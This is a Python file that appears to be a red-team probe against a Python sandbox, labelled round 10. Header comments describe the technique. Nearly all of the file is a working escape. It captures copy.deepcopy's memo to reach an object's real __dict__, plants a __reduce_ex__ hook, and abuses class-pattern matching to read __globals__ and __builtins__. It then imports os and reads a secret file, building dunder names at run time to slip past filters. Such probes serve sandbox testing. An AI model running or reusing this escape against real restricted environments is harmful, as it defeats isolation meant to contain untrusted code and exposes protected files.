# family: red team, round 10 (deepcopy_memo_keepalive_real_dict)
# A class may define __deepcopy__(self, memo); nothing stops it from keeping the memo. copy.deepcopy keeps every
# original it copied alive in memo[id(memo)], the ORIGINAL instance __dict__ of each object included (state of
# object.__reduce_ex__). With the real __dict__ of an object in hand, the tool stores a run-time dunder in it:
# __reduce_ex__, which copy.copy() calls -> setattr() by run-time names -> class pattern reads __globals__.
import abc
import copy


class Probe(abc.ABC):
    __match_args__ = ("value",)


class Thing:
    def __init__(self):
        self.value = 1


class Grab:
    def __init__(self, sink):
        self.sink = sink

    def __deepcopy__(self, memo):
        self.sink.append(memo)
        return self


def _d(word):
    u = "_"
    return u + u + word + u + u


def real_dict(obj):
    sink = []
    copy.deepcopy([obj, Grab(sink)])
    memo = sink[0]
    for kept in memo[id(memo)]:
        if isinstance(kept, dict) and "value" in kept:
            return kept
    return None


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    thing = Thing()
    real_dict(thing)[_d("reduce_ex")] = reducer
    copy.copy(thing)


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
